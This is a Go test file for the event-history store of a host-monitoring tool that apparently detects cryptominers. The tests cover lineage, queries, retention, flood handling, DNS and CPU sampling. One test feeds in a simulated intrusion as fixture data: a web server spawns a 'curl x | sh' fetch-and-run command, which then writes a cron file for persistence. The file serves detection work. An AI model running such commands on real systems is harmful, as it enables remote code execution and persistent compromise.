package history

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/deminer/deminer"
)

// clock is a time that tests set.
type clock struct {
	wall time.Time
	mono time.Duration
}

func newClock() *clock { return &clock{wall: time.Date(2026, 3, 1, 3, 0, 0, 0, time.UTC)} }

func (c *clock) pass(d time.Duration) { c.wall, c.mono = c.wall.Add(d), c.mono+d }

func (c *clock) options(max int64) Options {
	return Options{Max: max, Now: func() time.Time { return c.wall }, Mono: func() time.Duration { return c.mono }}
}

func root(t testing.TB, dir string) *os.Root {
	t.Helper()
	r, err := os.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { r.Close() })
	return r
}

func open(t testing.TB, dir string, opt Options) *Store {
	t.Helper()
	s, err := Open(root(t, dir), opt)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func query(t testing.TB, dir string, want Filter) (out []Entry) {
	t.Helper()
	if err := Read(root(t, dir)).Query(want, func(e Entry) bool { out = append(out, e); return true }); err != nil {
		t.Fatal(err)
	}
	return out
}

func exec(pid int, start uint64, parent int, at time.Time, argv ...string) deminer.Event {
	e := deminer.Event{Kind: deminer.EventExec, Time: at, Sensor: deminer.SensorBPF, Proc: deminer.ProcID{PID: pid, Start: start}, Parent: parent, Exe: deminer.Raw(argv[0]), Comm: deminer.Raw(filepath.Base(argv[0]))}
	for _, a := range argv {
		e.Argv = append(e.Argv, deminer.Raw(a))
	}
	return e
}

func TestLineageAndQuery(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	s.Seen(&deminer.Process{ID: deminer.ProcID{PID: 100, Start: 10}, PPID: 1, Exe: "/usr/sbin/nginx", Argv: []string{"nginx: master"}, UID: 33, Started: c.wall.Add(-time.Hour)})
	c.pass(time.Second)
	s.Put(deminer.Event{Kind: deminer.EventFork, Time: c.wall, Proc: deminer.ProcID{PID: 800, Start: 500}, Parent: 100, Exe: "/usr/sbin/nginx"})
	s.Put(exec(800, 500, 100, c.wall, "/bin/sh", "-c", "curl x | sh"))
	s.Put(deminer.Event{Kind: deminer.EventFork, Time: c.wall, Proc: deminer.ProcID{PID: 801, Start: 501}, Parent: 800, Exe: "/bin/sh"})
	s.Put(deminer.Event{Kind: deminer.EventFork, Time: c.wall, Proc: deminer.ProcID{PID: 802, Start: 501}, Parent: 801, Exe: "/bin/sh"})
	s.Put(exec(802, 501, 801, c.wall, "/usr/bin/curl", "http://x/\x1b[2J"))
	s.Put(deminer.Event{Kind: deminer.EventConnect, Time: c.wall, Proc: deminer.ProcID{PID: 802, Start: 501}, Exe: "/usr/bin/curl", Proto: "tcp", Remote: "192.0.2.7:80"})
	s.Put(deminer.Event{Kind: deminer.EventFile, Time: c.wall, Op: deminer.FileWritten, Proc: deminer.ProcID{PID: 802, Start: 501}, Exe: "/usr/bin/curl", Path: "/etc/cron.d/x"})
	s.Alert(Entry{Event: deminer.Event{Proc: deminer.ProcID{PID: 802, Start: 501}, Exe: "/usr/bin/curl"}, Alert: &Alert{ID: "a1", Incident: "f00d", Text: "bad"}})
	up, err := s.Lineage(deminer.ProcID{PID: 802, Start: 501})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, e := range up {
		names = append(names, string(e.Kind)+" "+string(e.Exe))
	}
	// 801 did nothing but fork; that it was there is told all the same.
	if want := []string{"exec /usr/bin/curl", "fork /bin/sh", "exec /bin/sh", "process /usr/sbin/nginx"}; !slices.Equal(names, want) {
		t.Errorf("lineage %v, want %v", names, want)
	}
	if up[0].Argv[1] != "http://x/\x1b[2J" {
		t.Errorf("raw bytes became %q", up[0].Argv)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	for _, one := range []struct {
		want Filter
		n    int
	}{
		{Filter{Exe: "curl"}, 4}, {Filter{Exe: "/usr/bin/curl"}, 4}, {Filter{Exe: "url"}, 0}, {Filter{Remote: "192.0.2.7"}, 1}, {Filter{Remote: "192.0.2.7:80"}, 1},
		{Filter{Remote: "192.0.2.8"}, 0}, {Filter{Path: "/etc"}, 1}, {Filter{Path: "/etc/cron.d/"}, 1}, {Filter{Path: "/etc/cron"}, 0}, {Filter{Path: "/usr/bin"}, 1}, {Filter{PID: 802}, 4},
		{Filter{Incident: "f00d"}, 1}, {Filter{Incident: "a1"}, 1}, {Filter{Kinds: []deminer.EventKind{deminer.EventExec}}, 2},
		{Filter{Parent: deminer.ProcID{PID: 800, Start: 500}}, 1}, {Filter{Until: c.wall}, 1}, {Filter{Since: c.wall}, 6},
	} {
		if got := query(t, dir, one.want); len(got) != one.n {
			t.Errorf("%+v: %d entries, want %d: %v", one.want, len(got), one.n, got)
		}
	}
	if err := Read(root(t, dir)).Check(); err != nil {
		t.Error(err)
	}
}

// TestStorm: a program that is started again and again is counted.
func TestStorm(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	s.Put(exec(50, 1, 1, c.wall, "/bin/bash"))
	const n = 15000
	for i := range n {
		c.pass(time.Millisecond)
		id := deminer.ProcID{PID: 1000 + i, Start: uint64(100 + i)}
		s.Put(deminer.Event{Kind: deminer.EventFork, Time: c.wall, Proc: id, Parent: 50, Exe: "/bin/bash"})
		s.Put(exec(id.PID, id.Start, 50, c.wall, "/bin/true"))
		s.Put(deminer.Event{Kind: deminer.EventExit, Time: c.wall, Proc: id, Exe: "/bin/true"})
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	kept, counted := 0, uint64(0)
	for _, e := range query(t, dir, Filter{Exe: "true", Kinds: []deminer.EventKind{deminer.EventExec}}) {
		if counted += e.Count; e.Count == 0 {
			kept++
		}
	}
	if kept != 3 || counted != n-3 {
		t.Errorf("%d kept and %d counted of %d", kept, counted, n)
	}
	if d := s.State().Dropped; len(d) > 0 {
		t.Errorf("dropped %v", d)
	}
}

// TestCountedProcessActs: what was counted only is told when it does something.
func TestCountedProcessActs(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	s.Put(exec(50, 1, 1, c.wall, "/bin/bash"))
	for i := range 20 {
		s.Put(exec(100+i, 9, 50, c.wall, "/bin/same"))
	}
	s.Put(deminer.Event{Kind: deminer.EventConnect, Time: c.wall, Proc: deminer.ProcID{PID: 119, Start: 9}, Exe: "/bin/same", Proto: "tcp", Remote: "192.0.2.7:80"})
	up, err := s.Lineage(deminer.ProcID{PID: 119, Start: 9})
	if err != nil || len(up) != 2 || up[0].Exe != "/bin/same" || up[1].Exe != "/bin/bash" {
		t.Errorf("%v %v", up, err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
}

// world writes a history of several segments and gives what is in it.
func world(t testing.TB, dir string, n int) []Entry {
	t.Helper()
	c := newClock()
	opt := c.options(0)
	opt.Segment = 128 << 10
	s := open(t, dir, opt)
	r := rand.New(rand.NewPCG(1, 2))
	for i := range n {
		c.pass(time.Duration(r.IntN(3000)) * time.Millisecond)
		exe := fmt.Sprintf("/opt/%x/%x", r.IntN(40), r.Uint64())
		s.Put(exec(2+r.IntN(5000), uint64(i+1), 1, c.wall, exe, fmt.Sprint(r.Uint64())))
		s.Put(deminer.Event{Kind: deminer.EventConnect, Time: c.wall, Proc: deminer.ProcID{PID: 9, Start: 9}, Exe: deminer.Raw(exe), Proto: "tcp", Remote: fmt.Sprintf("192.0.2.%d:%d", r.IntN(256), r.IntN(9999))})
		if i%50 == 0 {
			if err := s.Flush(); err != nil {
				t.Fatal(err)
			}
		}
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	return query(t, dir, Filter{})
}

// TestIndexAgreesWithScan compares every kind of question with a look at all entries.
func TestIndexAgreesWithScan(t *testing.T) {
	dir := t.TempDir()
	all := world(t, dir, 6000)
	list, err := segments(root(t, dir))
	if err != nil || len(list) < 3 {
		t.Fatalf("%d segments: the world is too small", len(list))
	}
	r := rand.New(rand.NewPCG(3, 4))
	for range 100 {
		e := all[r.IntN(len(all))]
		wants := []Filter{{PID: e.Proc.PID}, {Proc: e.Proc}, {Exe: string(e.Exe)}, {Exe: filepath.Base(string(e.Exe))}, {Path: filepath.Dir(string(e.Exe))},
			{Since: e.Time, Until: e.Time.Add(time.Minute)}, {Kinds: []deminer.EventKind{e.Kind}, Since: e.Time}}
		if e.Remote != "" {
			wants = append(wants, Filter{Remote: e.Remote}, Filter{Remote: addressOf(e.Remote)})
		}
		want := wants[r.IntN(len(wants))]
		var scan, found []uint64
		for _, one := range all {
			if want.wants(&one) {
				scan = append(scan, one.Seq)
			}
		}
		for _, one := range query(t, dir, want) {
			found = append(found, one.Seq)
		}
		if !slices.Equal(scan, found) || len(scan) == 0 {
			t.Fatalf("%+v: %d found, %d by looking at all", want, len(found), len(scan))
		}
	}
}

// TestQueryReadsLittle: what one process did is found without reading it all.
func TestQueryReadsLittle(t *testing.T) {
	dir := t.TempDir()
	all := world(t, dir, 12000)
	size := int64(0)
	for _, name := range files(t, dir) {
		st, err := os.Stat(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		size += st.Size()
	}
	r := Read(root(t, dir))
	found := 0
	e := all[len(all)/2]
	if err := r.Query(Filter{Exe: string(e.Exe)}, func(Entry) bool { found++; return true }); err != nil || found == 0 {
		t.Fatal(found, err)
	}
	t.Logf("%d of %d bytes", r.Bytes, size)
	if r.Bytes > size/5 {
		t.Errorf("a question for one program read %d of %d bytes", r.Bytes, size)
	}
}

func files(t testing.TB, dir string) (out []string) {
	t.Helper()
	list, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range list {
		out = append(out, e.Name())
	}
	return out
}

// TestRetention: the history stays within its size, and its oldest part goes without breaking the chain.
func TestRetention(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(1<<20))
	r := rand.New(rand.NewPCG(1, 2))
	for i := range 60000 {
		c.pass(20 * time.Second)
		s.Put(exec(i+2, uint64(i+1), 1, c.wall, fmt.Sprintf("/opt/%x", r.Uint64()), fmt.Sprint(r.Uint64())))
		if i%100 == 0 {
			if err := s.Flush(); err != nil {
				t.Fatal(err)
			}
			if n := s.State().Bytes; n > 1<<20 {
				t.Fatalf("%d bytes on disk after %d entries", n, i)
			}
		}
	}
	if err := s.Check(); err != nil {
		t.Error(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	all := query(t, dir, Filter{})
	if all[0].Seq == 1 || all[len(all)-1].Seq != 60000 {
		t.Errorf("entries %d to %d of 60000", all[0].Seq, all[len(all)-1].Seq)
	}
	if list, _ := segments(root(t, dir)); list[0] == 1 {
		t.Error("the first segment is still there")
	}
}

// TestAge: what is old goes, by time in which the history was kept; a clock that is set forward does nothing.
func TestAge(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	opt := c.options(0)
	opt.Segment, opt.Age = 64<<10, time.Hour
	s := open(t, dir, opt)
	r := rand.New(rand.NewPCG(1, 2))
	fill := func(n int) {
		for i := range n {
			c.pass(10 * time.Millisecond)
			s.Put(exec(i+2, uint64(i+1), 1, c.wall, fmt.Sprintf("/opt/%x/%x", r.IntN(1000), r.Uint64()), fmt.Sprint(r.Uint64())))
			if i%100 == 0 {
				if err := s.Flush(); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
	fill(14000)
	before := s.State().Segments
	c.wall = c.wall.Add(1000 * time.Hour)
	fill(4000)
	if after := s.State().Segments; before < 3 || after < before {
		t.Errorf("%d segments became %d when the clock was set", before, after)
	}
	c.pass(2 * time.Hour)
	fill(8000)
	if after := s.State().Segments; after >= before {
		t.Errorf("%d segments, and %d two hours later", before, after)
	}
	if err := errors.Join(s.Check(), s.Close()); err != nil {
		t.Error(err)
	}
}

// TestClockSetBack: the order is that in which things came.
func TestClockSetBack(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	s.Put(exec(2, 1, 1, c.wall, "/bin/a"))
	c.pass(time.Second)
	c.wall = c.wall.Add(-24 * time.Hour)
	s.Put(exec(3, 2, 1, c.wall, "/bin/b"))
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	got := query(t, dir, Filter{})
	if len(got) != 2 || got[0].Exe != "/bin/a" || got[1].Exe != "/bin/b" || !got[1].Time.Equal(c.wall) || got[1].Clock <= got[0].Clock {
		t.Errorf("%v", got)
	}
}

// TestFlood: more than there is room for is counted, and the history says so; what matters gets in.
func TestFlood(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	r := rand.New(rand.NewPCG(1, 2))
	for i := range 200000 {
		c.pass(5 * time.Microsecond)
		id := deminer.ProcID{PID: i + 2, Start: 7}
		e := exec(id.PID, id.Start, 1, c.wall, fmt.Sprintf("/opt/%x", r.Uint64()))
		if s.Put(e); i%20000 == 0 {
			e.Denied = true
			s.Put(e)
		}
	}
	if n := cap(s.buffer); n > 2*bufferAll {
		t.Errorf("the buffer has %d bytes", n)
	}
	dropped := s.State().Dropped[deminer.EventExec]
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	denied, gap, all := 0, uint64(0), uint64(0)
	for _, e := range query(t, dir, Filter{}) {
		all++
		if e.Denied {
			denied++
		}
		if e.Kind == KindGap {
			gap += e.Count
			all--
		}
	}
	if denied != 10 || dropped == 0 || gap != dropped || all+gap != 200010 {
		t.Errorf("%d denied, %d in all, dropped %d, told %d", denied, all, dropped, gap)
	}
}

// TestDNS: an answer is kept as name and addresses, and found by both.
func TestDNS(t *testing.T) {
	msg := "\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x04pool\x07example\x00\x00\x01\x00\x01\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04\xc0\x00\x02\x07"
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	for range 5 {
		s.Put(deminer.Event{Kind: deminer.EventDNS, Time: c.wall, Data: deminer.Raw(msg), Proto: "udp"})
	}
	s.Put(deminer.Event{Kind: deminer.EventDNS, Time: c.wall, Data: "junk", Proto: "udp"})
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	for _, what := range []string{"pool.example", "POOL.example.", "192.0.2.7"} {
		if got := query(t, dir, Filter{Remote: what}); len(got) != 2 || got[0].Name != "pool.example" || got[1].Count != 4 {
			t.Errorf("%s: %v", what, got)
		}
	}
}

// TestSample: processor time is kept in stretches.
func TestSample(t *testing.T) {
	dir, c := t.TempDir(), newClock()
	s := open(t, dir, c.options(0))
	p := deminer.Process{ID: deminer.ProcID{PID: 7, Start: 3}, PPID: 1, Exe: "/opt/m", Started: c.wall}
	s.Seen(&p)
	begin := c.wall
	for minute := range 40 {
		if minute < 5 || minute >= 10 && minute < 30 {
			p.CPUTime += 2 * time.Minute
		}
		c.pass(time.Minute)
		s.Sample(&p, c.wall)
	}
	s.Put(deminer.Event{Kind: deminer.EventExit, Time: c.wall, Proc: p.ID, Exe: "/opt/m"})
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	var got []string
	sum := time.Duration(0)
	for _, e := range query(t, dir, Filter{Kinds: []deminer.EventKind{KindCPU}}) {
		got = append(got, fmt.Sprintf("%.0f-%.0f", e.Time.Sub(begin).Minutes(), e.Last.Sub(begin).Minutes()))
		sum += e.CPU
	}
	if want := "1-5 10-20 20-30"; strings.Join(got, " ") != want || sum != 48*time.Minute {
		t.Errorf("stretches %v of %s, want %s", got, sum, want)
	}
}
